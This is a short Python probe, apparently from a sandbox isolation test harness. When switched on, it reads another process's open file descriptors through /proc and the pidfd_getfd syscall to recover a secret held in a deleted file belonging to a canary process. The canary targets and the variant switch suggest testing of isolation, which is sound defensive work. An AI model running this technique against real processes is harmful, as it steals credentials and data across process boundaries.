"""Opens the descriptors of other processes: one holds a secret in a deleted file."""

from __future__ import annotations

import os

import kit

VARIANT = 0


def attack(out: str) -> None:
    for pid in {kit.TARGETS["canary_pid"], os.getppid()}:
        with kit.step(f"descriptors of {pid}"):
            for number in os.listdir(f"/proc/{pid}/fd"):
                with kit.step(f"descriptor {number} of {pid}"):
                    fd = os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
                    kit.loot(os.pread(fd, 4096, 0))
    with kit.step("pidfd_getfd"):
        pidfd = os.pidfd_open(kit.TARGETS["canary_pid"])
        fd = kit.syscall(438, 438, pidfd, kit.TARGETS["canary_fd"], 0)
        kit.loot(os.pread(fd, 4096, 0))


out_dir = kit.begin()
if VARIANT == 1:
    attack(out_dir)
kit.finish(out_dir, VARIANT)
